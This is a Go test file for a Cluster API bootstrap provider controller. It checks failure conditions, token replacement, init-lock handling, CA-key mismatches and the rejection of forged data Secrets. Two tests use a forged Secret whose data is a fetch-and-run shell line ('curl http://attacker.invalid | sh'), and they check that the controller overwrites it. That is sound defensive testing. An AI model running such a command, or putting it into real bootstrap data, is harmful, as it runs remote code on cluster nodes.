//go:build !windows

package controller

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	bootstraputil "k8s.io/cluster-bootstrap/token/util"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"

	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"

	bootstrapv1 "github.com/machineadm/machineadm/pkg/capi/api/v1alpha1"
	"github.com/machineadm/machineadm/pkg/report/nodeannotation"
)

// The tests of this file hold the bootstrap provider to Cluster API's
// bootstrap contract where it did not keep it.

// A failed bootstrap turns Ready False (the Machine's BootstrapConfigReady)
// with a reason naming the phase, reported before the Node exists (the
// report receiver) or after (the Node annotation); a rerun's success turns
// it True again.
func TestFailedBootstrapTurnsReadyFalse(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	m, _ := f.machine("w1", false)
	f.reconcile("w1")

	// Before the Node: the machine posted a failure.
	setReported := func(v string) {
		c := &bootstrapv1.MachineadmConfig{}
		f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "w1"}, c))
		if c.Annotations == nil {
			c.Annotations = map[string]string{}
		}
		c.Annotations[ReportedOutcomeAnnotation] = v
		f.must(k8s.Update(f.ctx, c))
	}
	setReported(`{"result":"Failed","failedPhase":"preflight","errorClass":"PreflightFailed","hint":"free port 10250"}`)
	c := f.reconcile("w1")
	got := wantCond(t, c, ReadyCondition, metav1.ConditionFalse, "PreflightFailed")
	if !contains(got.Message, "phase preflight failed", "hint: free port 10250") {
		t.Errorf("Ready message %q", got.Message)
	}
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
	setReported(`{"result":"Succeeded","durationMs":900,"machineadmVersion":"v1"}`)
	c = f.reconcile("w1")
	wantCond(t, c, ReadyCondition, metav1.ConditionTrue, ReasonSucceeded)
	wantCond(t, c, BootstrapSucceededCondition, metav1.ConditionTrue, ReasonSucceeded)

	// After the Node (another Machine): the annotation says a later phase
	// failed.
	m, _ = f.machine("w2", false)
	f.reconcile("w2")
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: f.ns + "-w2", Annotations: map[string]string{
		nodeannotation.Annotation: `{"result":"Failed","failedPhase":"kubelet-start","errorClass":"KubeletFailed","hint":"see journalctl -u kubelet"}`}}}
	f.must(k8s.Create(f.ctx, node))
	t.Cleanup(func() { k8s.Delete(context.Background(), node) })
	m.Status.NodeRef = clusterv1.MachineNodeReference{Name: node.Name}
	f.must(k8s.Status().Update(f.ctx, m))
	res, err := f.r.Reconcile(f.ctx, ctrl.Request{NamespacedName: client.ObjectKey{Namespace: f.ns, Name: "w2"}})
	f.must(err)
	if res.RequeueAfter <= 0 {
		t.Error("a failed outcome is not looked at again: a rerun's success would never be seen")
	}
	c = f.reconcile("w2")
	wantCond(t, c, ReadyCondition, metav1.ConditionFalse, "KubeletStartFailed")
	wantCond(t, c, BootstrapSucceededCondition, metav1.ConditionFalse, "KubeletFailed")
	node.Annotations[nodeannotation.Annotation] = `{"result":"Succeeded","durationMs":4200,"machineadmVersion":"v1"}`
	f.must(k8s.Update(f.ctx, node))
	c = f.reconcile("w2")
	wantCond(t, c, ReadyCondition, metav1.ConditionTrue, ReasonSucceeded)
	wantCond(t, c, BootstrapSucceededCondition, metav1.ConditionTrue, ReasonSucceeded)
}

func TestPhaseReason(t *testing.T) {
	for _, tc := range []struct{ phase, class, want string }{
		{"kubelet-start", "KubeletFailed", "KubeletStartFailed"},
		{"control-plane-prepare/download-certs", "", "ControlPlanePrepareDownloadCertsFailed"},
		{"", "VerificationFailed", "VerificationFailed"},
		{"", "not a reason!", "BootstrapFailed"},
		{"9lives", "Internal", "Internal"},
		{"-/-", "", "BootstrapFailed"},
	} {
		got := phaseReason(&bootstrapv1.BootstrapOutcome{FailedPhase: tc.phase, ErrorClass: tc.class})
		if got != tc.want || !reasonRE.MatchString(got) {
			t.Errorf("phaseReason(%q, %q) = %q, want %q", tc.phase, tc.class, got, tc.want)
		}
	}
}

// A bootstrap token deleted before the Machine joined is replaced, and the
// data Secret written again with it, under a condition.
func TestDeletedTokenIsReplaced(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.machine("w1", false)
	f.reconcile("w1")
	before := f.dataSecret("w1")
	oldID := before.Annotations[TokenIDAnnotation]
	f.must(workload.CoreV1().Secrets(metav1.NamespaceSystem).Delete(f.ctx, bootstraputil.BootstrapTokenSecretName(oldID), metav1.DeleteOptions{}))
	c := f.reconcile("w1")
	wantCond(t, c, ReadyCondition, metav1.ConditionTrue, ReasonTokenReplaced)
	after := f.dataSecret("w1")
	newID := after.Annotations[TokenIDAnnotation]
	if newID == "" || newID == oldID {
		t.Fatalf("token ID %q -> %q: not replaced", oldID, newID)
	}
	tok, ok := tokenExists(t, newID)
	if !ok {
		t.Fatal("the new token does not exist")
	}
	if after.UID != before.UID || bytes.Equal(after.Data["value"], before.Data["value"]) {
		t.Fatal("the same data Secret was not written again")
	}
	_, items := f.opened(after.Data["value"])
	if string(items["spec.join.token"]) != newID+"."+string(tok.Data["token-secret"]) {
		t.Fatal("the data does not carry the new token")
	}
	f.noLeak(after)
}

// failingSealer is a Sealer that always fails, as a KMS outage would.
type failingSealer struct{}

func (failingSealer) Seal(context.Context, SealRequest) ([]byte, error) {
	return nil, errors.New("sealing backend down")
}

// The init lock is given back by a config that fails after taking it, and
// is not taken while another config's init data exists (its Machine gone
// or not).
func TestInitLockReleasedOnFailureAndKeptForInitData(t *testing.T) {
	f := newFixture(t)
	lock := client.ObjectKey{Namespace: f.ns, Name: initLockName("c1")}
	f.r.Sealer = failingSealer{}
	f.machine("cp1", true)
	f.r.Reconcile(f.ctx, ctrl.Request{NamespacedName: client.ObjectKey{Namespace: f.ns, Name: "cp1"}})
	if err := k8s.Get(f.ctx, lock, &corev1.ConfigMap{}); !apierrors.IsNotFound(err) {
		t.Fatalf("a config that failed after taking the init lock still holds it (%v)", err)
	}
	f.r.Sealer = SpecSealer{TempDir: t.TempDir()}
	if a := f.reconcileAction("cp1"); a != "init" {
		t.Fatalf("cp1: action %q, want init", a)
	}
	// cp1's Machine goes; its init data stays (its config is still there).
	m1 := &clusterv1.Machine{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "cp1"}, m1))
	f.must(k8s.Delete(f.ctx, m1))
	f.machine("cp2", true)
	c := f.reconcile("cp2")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionFalse, ReasonWaitingForInitLock)
	c = f.reconcile("cp2")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionFalse, ReasonWaitingForInitLock)
}

// reconcileAction reconciles name and returns its data Secret's action.
func (f *fixture) reconcileAction(name string) string {
	f.t.Helper()
	f.reconcile(name)
	return f.dataSecret(name).Annotations[ActionAnnotation]
}

// Every condition carries the generation the reconcile looked at.
func TestConditionsCarryObservedGeneration(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.machine("w1", false)
	c := f.reconcile("w1")
	c.Spec.Node.Labels["tier"] = "changed"
	f.must(k8s.Update(f.ctx, c))
	c = f.reconcile("w1")
	if c.Generation < 2 {
		t.Fatalf("generation %d after a spec change", c.Generation)
	}
	for _, cd := range c.Status.Conditions {
		if cd.ObservedGeneration != c.Generation {
			t.Errorf("condition %s: observedGeneration %d, generation %d", cd.Type, cd.ObservedGeneration, c.Generation)
		}
	}
}

// An adopted data Secret gets the config's finalizer on the config and a
// controller reference with the config's UID.
func TestAdoptionFixesFinalizerAndOwner(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.machine("w1", false)
	f.reconcile("w1")
	f.namesData("w1")
	c := &bootstrapv1.MachineadmConfig{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "w1"}, c))
	// As clusterctl move leaves it when its owner-reference rewrite did
	// not run: no status, no finalizer, a controller reference with
	// another UID.
	controllerutil.RemoveFinalizer(c, Finalizer)
	f.must(k8s.Update(f.ctx, c))
	c.Status = bootstrapv1.MachineadmConfigStatus{}
	f.must(k8s.Status().Update(f.ctx, c))
	ds := f.dataSecret("w1")
	for i := range ds.OwnerReferences {
		ds.OwnerReferences[i].UID = "00000000-0000-0000-0000-000000000000"
	}
	f.must(k8s.Update(f.ctx, ds))
	c = f.reconcile("w1")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAdopted)
	if !controllerutil.ContainsFinalizer(c, Finalizer) {
		t.Error("the adopted config has no finalizer")
	}
	if o := metav1.GetControllerOf(f.dataSecret("w1")); o == nil || o.UID != c.UID {
		t.Errorf("data Secret controller %+v, want UID %s", o, c.UID)
	}
}

// A Secret of the data Secret's name, type and controller that the
// Machine does not name (written by whoever may create Secrets in the
// namespace, before the config rendered) is not adopted: the data is
// rendered again into it, and nothing it held is left.
func TestForgedDataSecretIsNotAdopted(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	_, c := f.machine("w1", false)
	forged := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{
			Name: "w1", Namespace: f.ns,
			Labels:      map[string]string{"forged": "yes"},
			Annotations: map[string]string{ReportDigestAnnotation: "sha256:forged", PayloadDigestAnnotation: "sha256:forged"},
			Finalizers:  []string{"forged.example/hold"},
			OwnerReferences: []metav1.OwnerReference{{
				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
			}, {
				APIVersion: "v1", Kind: "ConfigMap", Name: "forged-owner",
				UID: "00000000-0000-0000-0000-000000000001", BlockOwnerDeletion: ptr(true),
			}},
		},
		Type: ClusterSecretType,
		Data: map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config"), payloadKey: []byte("forged payload")},
	}
	f.must(k8s.Create(f.ctx, forged))
	c = f.reconcile("w1")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonDataRewritten)
	if c.Status.DataSecretName != "w1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
		t.Fatalf("status %+v", c.Status)
	}
	ds := f.dataSecret("w1")
	if strings.Contains(string(ds.Data[dataKey]), "attacker") || ds.Data[payloadKey] != nil || ds.Data[previousPayloadKey] != nil {
		t.Fatal("the forged data is still in the data Secret")
	}
	if ds.Labels["forged"] != "" || ds.Annotations[ReportDigestAnnotation] == "sha256:forged" || ds.Annotations[PayloadDigestAnnotation] == "sha256:forged" {
		t.Fatalf("forged metadata kept: %v %v", ds.Labels, ds.Annotations)
	}
	if ds.Annotations[TokenIDAnnotation] == "" || ds.Labels[clusterv1.ClusterNameLabel] != "c1" {
		t.Fatalf("the rewritten Secret lacks the rendered metadata: %v %v", ds.Labels, ds.Annotations)
	}
	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID || len(ds.OwnerReferences) != 1 || len(ds.Finalizers) != 0 {
		t.Fatalf("controller %+v, want UID %s; owners %+v, finalizers %v", o, c.UID, ds.OwnerReferences, ds.Finalizers)
	}
}

// A control-plane join waiting for a CA Secret that was deleted looks
// again, and resumes once it is restored.
func TestRestoredCAResumesTheConfig(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	ca := &corev1.Secret{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "c1-ca"}, ca))
	f.must(k8s.Delete(f.ctx, ca))
	f.machine("cp2", true)
	res, err := f.r.Reconcile(f.ctx, ctrl.Request{NamespacedName: client.ObjectKey{Namespace: f.ns, Name: "cp2"}})
	f.must(err)
	c := f.reconcile("cp2")
	wantCond(t, c, ReadyCondition, metav1.ConditionFalse, ReasonMissingCA)
	if res.RequeueAfter <= 0 {
		t.Fatal("a config missing its CA is never looked at again: restoring the Secret would not resume it")
	}
	restored := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: ca.Name, Namespace: ca.Namespace, Labels: ca.Labels}, Type: ca.Type, Data: ca.Data}
	f.must(k8s.Create(f.ctx, restored))
	c = f.reconcile("cp2")
	wantCond(t, c, ReadyCondition, metav1.ConditionTrue, ReasonAvailable)
}

// A CA Secret whose key is not its certificate's (another CA's key, an
// operator's copy-paste) stops the control-plane join with a condition
// naming the Secret, never the key, and a fixed Secret resumes it.
func TestMismatchedCAKeyIsRefused(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	ca, proxy := &corev1.Secret{}, &corev1.Secret{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "c1-ca"}, ca))
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "c1-proxy"}, proxy))
	good := ca.Data[tlsKey]
	ca.Data[tlsKey] = proxy.Data[tlsKey]
	f.must(k8s.Update(f.ctx, ca))
	f.machine("cp2", true)
	res, err := f.r.Reconcile(f.ctx, ctrl.Request{NamespacedName: client.ObjectKey{Namespace: f.ns, Name: "cp2"}})
	f.must(err)
	c := f.reconcile("cp2")
	wantCond(t, c, ReadyCondition, metav1.ConditionFalse, ReasonInvalidCA)
	if m := cond(c, ReadyCondition).Message; !strings.Contains(m, "c1-ca") || strings.Contains(m, "PRIVATE KEY") {
		t.Fatalf("condition message %q", m)
	}
	if res.RequeueAfter <= 0 {
		t.Fatal("a config with a bad CA is never looked at again")
	}
	if err := k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "cp2"}, &corev1.Secret{}); !apierrors.IsNotFound(err) {
		t.Fatalf("data written with a mismatched CA: %v", err)
	}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "c1-ca"}, ca))
	ca.Data[tlsKey] = good
	f.must(k8s.Update(f.ctx, ca))
	c = f.reconcile("cp2")
	wantCond(t, c, ReadyCondition, metav1.ConditionTrue, ReasonAvailable)
}

// A Cluster maps to the configs of its Machines, labelled or not.
func TestClusterMapsToConfigsThroughMachines(t *testing.T) {
	f := newFixture(t)
	_, c := f.machine("w1", false)
	delete(c.Labels, clusterv1.ClusterNameLabel)
	f.must(k8s.Update(f.ctx, c))
	reqs := f.r.clusterToConfigs(f.ctx, f.cluster)
	if len(reqs) != 1 || reqs[0].Name != "w1" {
		t.Fatalf("Cluster maps to %v, want the unlabelled config w1", reqs)
	}
}

// MachineadmConfigTemplate is mutable (docs/cluster-api.md): the API server
// takes an edit, and a config made from it earlier, with its data, is not
// rendered again.
func TestTemplateEditLeavesConfigsAlone(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	tpl := &bootstrapv1.MachineadmConfigTemplate{ObjectMeta: metav1.ObjectMeta{Name: "workers", Namespace: f.ns},
		Spec: bootstrapv1.MachineadmConfigTemplateSpec{Template: bootstrapv1.MachineadmConfigTemplateResource{Spec: f.spec()}}}
	f.must(k8s.Create(f.ctx, tpl))
	f.machine("w1", false) // as a MachineSet makes it: the template's spec, copied
	f.reconcile("w1")
	before := f.dataSecret("w1")
	tpl.Spec.Template.Spec.Node.Labels = map[string]string{"tier": "edited"}
	if err := k8s.Update(f.ctx, tpl); err != nil {
		t.Fatalf("editing the template was refused: %v", err)
	}
	c := f.reconcile("w1")
	if c.Spec.Node.Labels["tier"] != "test" || !bytes.Equal(f.dataSecret("w1").Data["value"], before.Data["value"]) {
		t.Fatal("a template edit reached a config made before it")
	}
}

// A data Secret the config cannot trust is written anew whatever it
// holds: the init Machine's own data whose status update was lost (init
// data has no token to replace, so it was left as it was and the config
// never finished), and a forged one that is immutable (no update can
// change its data) or holds a finalizer (it would outlive its config).
func TestUntrustedDataSecretIsWrittenAnew(t *testing.T) {
	f := newFixture(t)
	_, c := f.machine("cp1", true)
	if a := f.reconcileAction("cp1"); a != "init" {
		t.Fatalf("cp1: action %q, want init", a)
	}
	first := f.dataSecret("cp1")
	// The status update is lost: the Secret is there, the status and the
	// Machine do not name it.
	f.must(k8s.Get(f.ctx, client.ObjectKeyFromObject(c), c))
	c.Status.DataSecretName = ""
	c.Status.Initialization.DataSecretCreated = nil
	f.must(k8s.Status().Update(f.ctx, c))
	c = f.reconcile("cp1")
	if c.Status.DataSecretName != "cp1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
		t.Fatalf("init config after a lost status update: status %+v, conditions %+v", c.Status, c.Status.Conditions)
	}
	if ds := f.dataSecret("cp1"); ds.UID == first.UID || ds.Annotations[ActionAnnotation] != "init" {
		t.Fatalf("init data not written anew: UID %s (was %s), action %q", ds.UID, first.UID, ds.Annotations[ActionAnnotation])
	}

	f.initialized()
	_, c = f.machine("w1", false)
	forged := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{
			Name: "w1", Namespace: f.ns, Finalizers: []string{"forged.example/hold"},
			OwnerReferences: []metav1.OwnerReference{{
				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
			}},
		},
		Type:      ClusterSecretType,
		Immutable: ptr(true),
		Data:      map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config"), "extra": []byte("forged")},
	}
	f.must(k8s.Create(f.ctx, forged))
	c = f.reconcile("w1")
	if c.Status.DataSecretName != "w1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
		t.Fatalf("worker config over an immutable forged Secret: status %+v, conditions %+v", c.Status, c.Status.Conditions)
	}
	ds := f.dataSecret("w1")
	if strings.Contains(string(ds.Data[dataKey]), "attacker") || ds.Data["extra"] != nil || len(ds.Finalizers) != 0 || ptrTrue(ds.Immutable) {
		t.Fatalf("forged content kept: finalizers %v, immutable %v, keys %d", ds.Finalizers, ds.Immutable, len(ds.Data))
	}
	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID {
		t.Fatalf("controller %+v, want UID %s", o, c.UID)
	}
}
